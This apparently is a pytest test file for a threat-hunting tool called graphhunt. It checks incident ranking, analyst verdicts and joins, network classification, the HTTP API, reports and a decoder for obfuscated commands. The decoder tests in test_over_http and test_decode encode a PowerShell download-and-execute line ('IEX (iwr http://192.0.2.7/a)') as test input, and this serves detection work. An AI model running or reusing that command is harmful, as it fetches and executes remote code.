"""`graphhunt incidents`, `networks` and `decode`, and incidents as rows and as properties, on a small loaded case."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

import graphhunt as gh
from graphhunt.api.app import create_app
from graphhunt.lab.generator import generate_demo, load_truth
from graphhunt.store.embedded import stop_engine
from graphhunt.web import Pages

from .test_commands import data, run


@pytest.fixture(scope="module")
def loaded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Path, list[str]]]:
    """A case with a planted intrusion, and its machines in order."""
    folder: Path = tmp_path_factory.mktemp("case")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GRAPHHUNT_ENGINE_MEMORY_MB", "512")
        patch.setenv("GRAPHHUNT_ENGINE_IDLE", "5")
        generate_demo(folder / "logs", seed=3)
        data(folder / "ws", "load", str(folder / "logs"))
        (chain,) = load_truth(folder / "logs").chains
        yield folder / "ws", [chain.start, *(hop.dst for hop in chain.hops)]
        stop_engine(folder / "ws")


def first(folder: Path, *options: str) -> dict[str, Any]:
    found: dict[str, Any] = data(folder, "incidents", *options)["items"][0]
    return found


def test_the_list(loaded: tuple[Path, list[str]]) -> None:
    folder, machines = loaded
    found = data(folder, "incidents")
    assert {"items", "below", "held_back", "scope", "notes"} <= found.keys()
    assert found["items"][0]["machines"] == machines
    assert found["scope"]["looked_at"]["processes"] > 100
    text = run(folder, "incidents")
    assert found["items"][0]["id"] in text.stdout
    assert "Below the line" in text.stdout
    assert "looked at" in run(folder, "incidents", "--verbose").stderr


def test_one_step_by_step(loaded: tuple[Path, list[str]]) -> None:
    folder, machines = loaded
    told = data(folder, "incidents", first(folder)["id"])
    assert told["machines"] == machines
    assert all(step["evidence"]["ids"] for step in told["steps"])
    assert data(folder, "evidence", told["steps"][0]["evidence"]["ids"][0])["record"]
    assert data(folder, "incidents", told["steps"][-1]["id"])["id"] == told["id"]
    assert "installed" in run(folder, "incidents", told["id"]).stdout


def test_an_id_that_is_none_names_the_nearest(loaded: tuple[Path, list[str]]) -> None:
    folder, _ = loaded
    known = first(folder)["id"]
    answer = run(folder, "incidents", known[:6])
    assert answer.exit_code == 2
    assert known in answer.stderr


def test_nothing_loaded_is_no_error(tmp_path: Path) -> None:
    answer = run(tmp_path, "incidents")
    assert answer.exit_code == 0
    assert "nothing that incidents are made of is loaded" in answer.stderr


def test_rows_and_properties(loaded: tuple[Path, list[str]]) -> None:
    """Python gives rows; written, every machine of it says so in the graph, as do its processes and logons."""
    folder, machines = loaded
    with gh.open(folder) as hunt:
        rows = hunt.incidents()
        assert rows[0].machines == machines
        assert rows.df["Rank"].tolist() == list(range(1, len(rows) + 1))
        assert rows.evidence()
        hunt.analyze("incidents")
        asked = "MATCH (m:Machine) WHERE m.incident_rank = 1 RETURN m.name AS name, m.incident_id AS id"
        written = hunt.query(asked).rows
        assert sorted(name for name, _ in written) == sorted(machines)
        assert {id_ for _, id_ in written} == {rows[0].id}
        asked = "MATCH (:Machine)-[r:REMOTE_LOGON]->(:Machine) WHERE r.incident_rank = 1 RETURN count(r) AS logons"
        assert hunt.query(asked).rows[0][0] >= len(machines) - 1
        asked = "MATCH (p:Process) WHERE 'encoded_command' IN p.incident_leads RETURN count(p) AS processes"
        assert hunt.query(asked).rows[0][0] == len(machines)
        asked = "MATCH (p:Process) WHERE p.incident_decoded CONTAINS 'http' RETURN p.incident_decoded_urls AS urls"
        commands = hunt.query(asked).rows
        assert len(commands) == len(machines)
        assert all(urls[0].startswith("http://") for (urls,) in commands)
        asked = "MATCH (:Process)-[r:CONNECTED]->(a:IP) WHERE r.incident_rank = 1 RETURN DISTINCT a.id AS address"
        assert [[address] for address in rows[0].outside or []] == hunt.query(asked).rows


def test_what_was_joined_by_hand_is_one_until_it_is_undone(loaded: tuple[Path, list[str]]) -> None:
    folder, _ = loaded
    listed = data(folder, "incidents")
    ends = [each["id"] for each in (*listed["items"], *listed["below"])][:2]
    made = data(folder, "links", "join", *ends, "--reason", "same night", "--author", "ann")
    whole = data(folder, "incidents", ends[1])
    assert data(folder, "incidents", ends[0])["id"] == whole["id"]
    assert set(ends) <= {whole["id"], *whole["aliases"]}
    text = " ".join(run(folder, "incidents", ends[0]).stdout.split())
    assert f"Joined by hand: ann: same night; undo with: graphhunt links undo {made['id']}" in text
    assert "same night" in run(folder, "links", "list").stdout
    assert data(folder, "links", "undo", made["id"])["holds"] is False
    assert data(folder, "incidents") == listed
    assert run(folder, "links", "undo", made["id"]).exit_code == 2
    assert run(folder, "links", "cut", "nosuch").exit_code == 2


def test_what_is_stated_of_an_incident_stands_in_list_story_and_report(loaded: tuple[Path, list[str]]) -> None:
    folder, machines = loaded
    before = data(folder, "incidents")
    best = before["items"][0]["id"]
    run(folder, "incidents", best, "--name", "Spring <b>", "--assignee", "bob", "--status", "in work")
    made = data(folder, "incidents", best, "--verdict", "malicious", "--note", "by the book", "--author", "ann")
    assert (made["name"], made["status"], made["verdict"], made["verdict_by"]) == (
        "Spring <b>", "in_work", "malicious", "ann",
    )  # fmt: skip
    words = f"“Spring <b>”; in work, bob; found malicious by ann on {made['verdict_time'][:10]}: by the book"
    for asked in (["incidents"], ["incidents", best], ["incidents", "--all"]):
        assert words in " ".join(run(folder, *asked).stdout.split())
    story = data(folder, "story", machines[0])["incidents"]
    assert next(each for each in story if each["id"] == best)["work"]["name"] == "Spring <b>"
    report = run(folder, "report", best, "--format", "html").stdout
    assert "“Spring &lt;b&gt;”; in work, bob; found malicious by ann" in report
    run(folder, "incidents", best, "--status", "closed")
    hidden = run(folder, "incidents")
    assert best not in hidden.stdout
    assert "1 incident left out: 1 closed; --all lists them" in hidden.stderr
    with gh.open(folder) as hunt:
        rows = {row.id: row for row in hunt.incidents(all=True)}
        assert (rows[best].name, rows[best].assignee, rows[best].status) == ("Spring <b>", "bob", "closed")
        assert best not in {row.id for row in hunt.incidents()}
    for change in data(folder, "incidents", best, "--history")["changes"]:
        assert run(folder, "incidents", "--undo", change["id"]).exit_code == 0
    assert "undone by" in run(folder, "incidents", best, "--history").stdout
    after = data(folder, "incidents")
    assert after["items"][0]["work"]["version"] == 6  # three statements, and each taken back
    for item in (before["items"][0], after["items"][0]):
        item["work"] |= {"version": 0, "changed": None, "changed_by": None}
    assert after == before
    assert run(folder, "incidents", "--name", "x").exit_code == 2
    assert run(folder, "incidents", best, "--verdict", "good").exit_code == 2


def test_an_act_is_benign_from_the_command_line(loaded: tuple[Path, list[str]]) -> None:
    folder, _ = loaded
    before = first(folder)
    told = data(folder, "incidents", before["id"])
    act = next(step for step in reversed(told["steps"]) if step["leads"])
    assert f"links benign {act['id']}" in " ".join(run(folder, "incidents", before["id"]).stdout.split())
    made = data(folder, "links", "benign", act["id"], "--reason", "ours", "--author", "ann")
    assert (made["verdict"], made["a"], made["author"]) == ("benign", act["id"], "ann")
    assert first(folder)["leads"] == before["leads"] - len(act["leads"])
    data(folder, "links", "undo", made["id"])
    assert first(folder) == before


def test_over_http(loaded: tuple[Path, list[str]], tmp_path: Path) -> None:
    folder, machines = loaded
    with gh.open(folder) as hunt:
        app = create_app(hunt, token=None, api_tokens=["t"], pages=Pages(tmp_path))
        headers = {"Authorization": "Bearer t"}
        client = TestClient(app, base_url="http://127.0.0.1:8765/api/v1", headers=headers)
        listed = client.get("/incidents", params={"budget": 3}).json()
        best = listed["items"][0]
        assert best["machines"] == machines
        told = client.get(f"/incidents/{best['id']}").json()
        assert [step["evidence"]["total"] > 0 for step in told["steps"]] == [True] * len(told["steps"])
        assert client.get("/incidents/nosuch").status_code == 404
        other = (listed["items"] + listed["below"])[1]["id"]
        wanted = {"verdict": "join", "other": other, "reason": "same night"}
        made = client.post(f"/incidents/{best['id']}/links", json=wanted)
        assert made.status_code == 201
        assert client.get("/incident-links").json()["items"][-1]["reason"] == "same night"
        assert client.get(f"/incidents/{best['id']}").json() != told
        assert client.delete(f"/incident-links/{made.json()['id']}").json()["holds"] is False
        assert client.get(f"/incidents/{best['id']}").json() == told
        assert client.delete(f"/incident-links/{made.json()['id']}").status_code == 404
        assert [each["address"] for each in client.get("/networks").json()["outside"]] == best["outside"]
        stated = client.put("/networks", json={"cidr": f"{best['outside'][0]}/32", "kind": "inner"}).json()
        assert stated["networks"][0]["source"] == "analyst"
        taken = client.delete("/networks", params={"cidr": f"{best['outside'][0]}/32"}).json()
        assert [each["address"] for each in taken["outside"]] == best["outside"]
        token = base64.b64encode("IEX (iwr http://192.0.2.7/a)".encode("utf-16-le")).decode()
        clear = client.post("/decode", json={"text": f"powershell -enc {token}"}).json()
        assert (clear["urls"], clear["reason"]) == (["http://192.0.2.7/a"], None)
        assert client.post("/decode", json={"text": "dir"}).json()["reason"]
        app.state.accounts.close()
        app.state.casebook.close()


def test_what_is_stated_over_http_names_the_version_it_is_based_on(
    loaded: tuple[Path, list[str]], tmp_path: Path
) -> None:
    folder, _ = loaded
    with gh.open(folder) as hunt:
        app = create_app(hunt, token=None, api_tokens=["t"], pages=Pages(tmp_path))
        headers = {"Authorization": "Bearer t"}
        client = TestClient(app, base_url="http://127.0.0.1:8765/api/v1", headers=headers)
        best = client.get("/incidents").json()["items"][0]["id"]
        tag = {"If-Match": client.get(f"/incidents/{best}/changes").headers["ETag"]}
        assert client.patch(f"/incidents/{best}", json={"verdict": "benign"}).status_code == 428
        made = client.patch(f"/incidents/{best}", json={"verdict": "benign"}, headers=tag)
        assert made.json()["work"]["left_out"] == "benign"
        late = client.patch(f"/incidents/{best}", json={"verdict": "malicious"}, headers=tag)
        assert (late.status_code, late.json()["current"]["verdict"]) == (412, "benign")
        listed = client.get("/incidents").json()
        assert (listed["left_out"], best in {each["id"] for each in listed["items"]}) == ({"benign": 1}, False)
        assert client.get("/incidents", params={"all": True}).json()["items"][0]["work"]["verdict"] == "benign"
        assert client.get(f"/incidents/{best}/storyboard").json()["work"]["verdict"] == "benign"
        change = made.json()["items"][-1]["id"]
        assert client.delete(f"/incident-changes/{change}").json()["holds"] is False
        assert client.delete(f"/incident-changes/{change}").status_code == 404
        assert client.get("/incidents").json()["items"][0]["id"] == best
        assert client.patch("/incidents/nosuch", json={"name": "x"}, headers=tag).status_code == 404


def test_networks(loaded: tuple[Path, list[str]]) -> None:
    folder, _ = loaded
    found = data(folder, "networks")
    outside = [each["address"] for each in found["outside"]]
    assert outside == first(folder)["outside"]
    assert all(each["reasons"] for each in found["outside"])
    assert {each["kind"] for each in found["networks"]} == {"inner", "platform"}
    assert outside[0] in run(folder, "networks").stdout


def test_a_setting_names_inner_networks(loaded: tuple[Path, list[str]], monkeypatch: pytest.MonkeyPatch) -> None:
    folder, _ = loaded
    monkeypatch.setenv("GRAPHHUNT_INNER_NETWORKS", "192.0.2.0/24, 2001:db8::/32")
    stated = [each["cidr"] for each in data(folder, "networks")["networks"] if each["source"] == "setting"]
    assert stated == ["192.0.2.0/24", "2001:db8::/32"]
    monkeypatch.setenv("GRAPHHUNT_INNER_NETWORKS", "elsewhere")
    assert run(folder, "networks").exit_code == 2


def test_what_an_analyst_states_of_a_network_holds_until_it_is_taken_back(loaded: tuple[Path, list[str]]) -> None:
    """The outside address of the intrusion is none once its network is stated to be inside."""
    folder, _ = loaded
    before = data(folder, "networks")
    (outside,) = first(folder)["outside"]
    mine = next(each["cidr"] for each in before["networks"] if each["kind"] == "inner")
    after = data(folder, "networks", "--add", outside, "--kind", "platform", "--author", "ann")
    assert after["networks"][0] | {"machines": []} == {
        "cidr": f"{outside}/32", "kind": "platform", "source": "analyst", "reason": "ann says so", "machines": [],
    }  # fmt: skip
    assert first(folder)["outside"] == []
    data(folder, "networks", "--remove", outside)
    assert data(folder, "networks") == before
    assert first(folder)["outside"] == [outside]
    away = data(folder, "networks", "--add", mine, "--kind", "outside")
    assert mine not in [each["cidr"] for each in away["networks"] if each["kind"] == "inner"]
    assert "an analyst says so" in str(away["outside"])
    data(folder, "networks", "--remove", mine)
    assert data(folder, "networks") == before
    wrong = (["--add", "elsewhere"], ["--add", "10.0.0.0/8", "--kind", "mine"], ["--remove", "10.0.0.0/8"])
    assert [run(folder, "networks", *given).exit_code for given in wrong] == [2] * 3


def test_decode(tmp_path: Path) -> None:
    token = base64.b64encode("IEX \x1b]0;a\x07(iwr http://192.0.2.7/a)".encode("utf-16-le")).decode()
    line = f"powershell -enc {token}"
    found = data(tmp_path, "decode", line)
    assert found["urls"] == ["http://192.0.2.7/a"]
    assert found["facts"] == ["fetches", "runs"]
    text = run(tmp_path, "decode", line)
    assert "\x1b" not in text.stdout
    assert "http://192.0.2.7/a" in text.stdout
    assert "no encoded command" in run(tmp_path, "decode", "cmd.exe /c dir").stderr


def test_a_report_is_written(loaded: tuple[Path, list[str]], tmp_path: Path) -> None:
    """On the command line and from Python; without an id it is on the first incident."""
    folder, machines = loaded
    best = first(folder)["id"]
    told = json.loads(run(folder, "report", "--format", "json").stdout)
    assert told["id"] == best
    assert {each["machine"] for each in told["machines"]} == set(machines)
    assert (
        data(folder, "report", best, "--out", str(tmp_path / "r.html"))["bytes"] == (tmp_path / "r.html").stat().st_size
    )
    assert "default-src 'none'" in (tmp_path / "r.html").read_text()
    redacted = run(folder, "report", "--format", "md", "--redact", "names").stdout
    assert not [machine for machine in machines if machine.casefold() in redacted.replace("\\", "").casefold()]
    with gh.open(folder) as hunt:
        assert json.loads(hunt.report(best, format="json"))["timeline"] == told["timeline"]
    wrong = (["nosuch"], ["--format", "pdf"], ["--redact", "all"], ["--out", str(tmp_path / "no" / "r.html")])
    assert [run(folder, "report", *given).exit_code for given in wrong] == [2] * 4
    assert run(tmp_path / "empty", "report").exit_code == 2


def test_a_report_over_http(loaded: tuple[Path, list[str]], tmp_path: Path) -> None:
    folder, _ = loaded
    with gh.open(folder) as hunt:
        app = create_app(hunt, token=None, api_tokens=["t"], pages=Pages(tmp_path))
        headers = {"Authorization": "Bearer t"}
        client = TestClient(app, base_url="http://127.0.0.1:8765/api/v1", headers=headers)
        best = client.get("/incidents").json()["items"][0]["id"]
        page = client.get(f"/reports/incident/{best}", params={"format": "html"})
        assert f'filename="incident-{best}.html"' in page.headers["Content-Disposition"]
        assert page.headers["Content-Security-Policy"].startswith("default-src 'none'")
        kept = client.put(f"/reports/incident/{best}/texts/reach", json={"text": "Two <b>machines</b>."}).json()
        again = client.get(f"/reports/incident/{best}").text
        assert "Two &lt;b&gt;machines&lt;/b&gt;." in again
        assert kept["author"] in again
        client.put(f"/reports/incident/{best}/texts/reach", json={"text": ""})
        assert "Two &lt;b&gt;" not in client.get(f"/reports/incident/{best}").text
        assert client.get("/reports/incident/nosuch").status_code == 404
        assert client.put("/reports/incident/nosuch/texts/reach", json={"text": "x"}).status_code == 404
        assert client.get(f"/reports/incident/{best}", params={"redact": "all"}).status_code == 422
        app.state.accounts.close()
        app.state.casebook.close()
